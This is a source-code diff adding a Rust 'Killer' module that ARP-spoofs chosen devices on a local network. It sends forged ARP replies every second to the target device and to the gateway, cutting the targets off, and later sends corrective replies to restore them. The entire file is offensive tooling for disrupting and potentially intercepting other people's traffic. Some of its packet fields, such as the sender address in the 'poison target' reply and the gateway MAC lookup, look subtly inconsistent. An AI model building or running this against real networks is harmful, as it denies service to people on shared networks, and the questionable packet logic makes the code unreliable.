@@ -0,0 +1,235 @@
+use crate::events::{Action, Event, EventBus};
+use crate::models::{DeviceId, DeviceTable, NetworkDevice};
+use crate::packet_io::{FrameSender, PacketIo};
+use anyhow::Result;
+use pnet::datalink::{self, MacAddr, NetworkInterface};
+use pnet::packet::arp::{ArpHardwareTypes, ArpOperations, MutableArpPacket};
+use pnet::packet::ethernet::{EtherTypes, MutableEthernetPacket};
+use pnet::packet::Packet;
+use std::collections::HashMap;
+use std::net::Ipv4Addr;
+use std::sync::Arc;
+use std::time::Duration;
+use tokio::time;
+use tokio_util::sync::CancellationToken;
+use tracing::{info, warn};
+
+// Corrective replies sent per device when it is let back on, in case some get lost
+const REPAIR_REPLIES: usize = 3;
+
+#[derive(Clone)]
+pub struct Killer {
+    devices: Arc<DeviceTable>,
+    interface: NetworkInterface,
+    io: Arc<dyn PacketIo>,
+    events: EventBus,
+    shutdown: CancellationToken,
+}
+
+impl Killer {
+    pub fn new(
+        devices: Arc<DeviceTable>,
+        interface: NetworkInterface,
+        io: Arc<dyn PacketIo>,
+        events: EventBus,
+        shutdown: CancellationToken,
+    ) -> Self {
+        Self {
+            devices,
+            interface,
+            io,
+            events,
+            shutdown,
+        }
+    }
+
+    // Spoofs blocked devices every second until shut down, then lets every device
+    // it was still spoofing back on
+    pub async fn start(&self) {
+        let mut interval = time::interval(Duration::from_millis(1000));
+        // Devices being spoofed as of the last round, with the address they had
+        let mut blocked: HashMap<DeviceId, String> = HashMap::new();
+        loop {
+            tokio::select! {
+                _ = interval.tick() => {}
+                _ = self.shutdown.cancelled() => break,
+            }
+            let targets = self.spoof_targets().await;
+            for (id, ip_address) in &targets {
+                if !blocked.contains_key(id) {
+                    self.publish(Action::Block, id, ip_address).await;
+                }
+            }
+            for (id, ip_address) in &blocked {
+                if !targets.contains_key(id) {
+                    self.restore(id, ip_address).await;
+                }
+            }
+            blocked = targets;
+        }
+        for (id, ip_address) in &blocked {
+            self.restore(id, ip_address).await;
+        }
+    }
+
+    async fn restore(&self, id: &DeviceId, ip_address: &str) {
+        if let Err(e) = self.repair_arp(id, ip_address) {
+            warn!(target_ip = ip_address, error = %e, "Failed to repair ARP caches");
+        }
+        self.publish(Action::Restore, id, ip_address).await;
+    }
+
+    // Tells the device and the gateway each other's real addresses again rather
+    // than leaving them cut off until their poisoned ARP entries expire
+    fn repair_arp(&self, id: &DeviceId, ip_address: &str) -> Result<()> {
+        let gateway = default_net::get_default_gateway()
+            .map_err(|e| anyhow::anyhow!("Failed to get default gateway: {}", e))?;
+        let gateway_ip = gateway.ip_addr.to_string().parse::<Ipv4Addr>()?;
+        let bytes = gateway.mac_addr.octets();
+        let gateway_mac = MacAddr::new(bytes[0], bytes[1], bytes[2], bytes[3], bytes[4], bytes[5]);
+
+        let target_ip = ip_address.parse::<Ipv4Addr>()?;
+        let target_mac = self
+            .devices
+            .get(id)
+            .ok_or_else(|| anyhow::anyhow!("Device {} is gone", id))?
+            .mac_address
+            .parse::<MacAddr>()?;
+
+        let (mut tx, _) = self.io.open(&self.interface)?;
+        for _ in 0..REPAIR_REPLIES {
+            send_arp_reply(
+                &mut *tx,
+                &self.interface,
+                gateway_ip,
+                target_ip,
+                gateway_mac,
+                target_mac,
+            )?;
+            send_arp_reply(
+                &mut *tx,
+                &self.interface,
+                target_ip,
+                gateway_ip,
+                target_mac,
+                gateway_mac,
+            )?;
+        }
+        Ok(())
+    }
+
+    async fn publish(&self, action: Action, id: &DeviceId, ip_address: &str) {
+        match action {
+            Action::Block => info!(target_ip = ip_address, id = %id, "Blocking device"),
+            Action::Restore => info!(target_ip = ip_address, id = %id, "Restored device"),
+        }
+        self.events
+            .publish(Event::ActionApplied {
+                action,
+                id: id.clone(),
+                ip_address: ip_address.to_string(),
+            })
+            .await;
+    }
+
+    async fn spoof_targets(&self) -> HashMap<DeviceId, String> {
+        let mut targets = HashMap::new();
+        for item in self.devices.iter() {
+            let device = item.value();
+            // ARP spoofing only reaches IPv4 neighbors
+            if device.is_killed && device.ip_address.parse::<Ipv4Addr>().is_ok() {
+                if let Err(e) = self.spoof_target(&self.interface, device).await {
+                    warn!(target_ip = %device.ip_address, error = %e, "Failed to spoof target");
+                }
+                targets.insert(device.id.clone(), device.ip_address.clone());
+            }
+        }
+        targets
+    }
+
+    async fn spoof_target(
+        &self,
+        interface: &NetworkInterface,
+        device: &NetworkDevice,
+    ) -> Result<()> {
+        let source_ip = interface
+            .ips
+            .iter()
+            .find(|ip| ip.is_ipv4())
+            .map(|ip| match ip.ip() {
+                std::net::IpAddr::V4(ip) => ip,
+                _ => unreachable!(),
+            })
+            .ok_or_else(|| anyhow::anyhow!("No IPv4 address found"))?;
+
+        let gateway_ip = default_net::get_default_gateway()
+            .map_err(|e| anyhow::anyhow!("Failed to get default gateway: {}", e))?
+            .ip_addr
+            .to_string()
+            .parse::<Ipv4Addr>()?;
+
+        let target_ip = device.ip_address.parse::<Ipv4Addr>()?;
+        let target_mac = device.mac_address.parse::<MacAddr>()?;
+
+        let (mut tx, _) = self.io.open(interface)?;
+
+        // Poison target device
+        send_arp_reply(
+            &mut *tx,
+            interface,
+            source_ip,
+            gateway_ip,
+            interface.mac.unwrap(),
+            target_mac,
+        )?;
+
+        // Poison gateway
+        send_arp_reply(
+            &mut *tx,
+            interface,
+            source_ip,
+            target_ip,
+            interface.mac.unwrap(),
+            datalink::interfaces()
+                .iter()
+                .find(|i| i.ips.iter().any(|ip| ip.ip().to_string() == gateway_ip.to_string()))
+                .and_then(|i| i.mac)
+                .unwrap_or_else(MacAddr::zero),
+        )?;
+
+        Ok(())
+    }
+}
+
+fn send_arp_reply(
+    tx: &mut dyn FrameSender,
+    _interface: &NetworkInterface,
+    source_ip: Ipv4Addr,
+    target_ip: Ipv4Addr,
+    source_mac: MacAddr,
+    target_mac: MacAddr,
+) -> Result<()> {
+    let mut ethernet_buffer = [0u8; 42];
+    let mut ethernet_packet = MutableEthernetPacket::new(&mut ethernet_buffer).unwrap();
+
+    ethernet_packet.set_destination(target_mac);
+    ethernet_packet.set_source(source_mac);
+    ethernet_packet.set_ethertype(EtherTypes::Arp);
+
+    let mut arp_buffer = [0u8; 28];
+    let mut arp_packet = MutableArpPacket::new(&mut arp_buffer).unwrap();
+
+    arp_packet.set_hardware_type(ArpHardwareTypes::Ethernet);
+    arp_packet.set_protocol_type(EtherTypes::Ipv4);
+    arp_packet.set_hw_addr_len(6);
+    arp_packet.set_proto_addr_len(4);
+    arp_packet.set_operation(ArpOperations::Reply);
+    arp_packet.set_sender_hw_addr(source_mac);
+    arp_packet.set_sender_proto_addr(source_ip);
+    arp_packet.set_target_hw_addr(target_mac);
+    arp_packet.set_target_proto_addr(target_ip);
+
+    ethernet_packet.set_payload(arp_packet.packet());
+
+    tx.send_frame(ethernet_packet.packet())
+}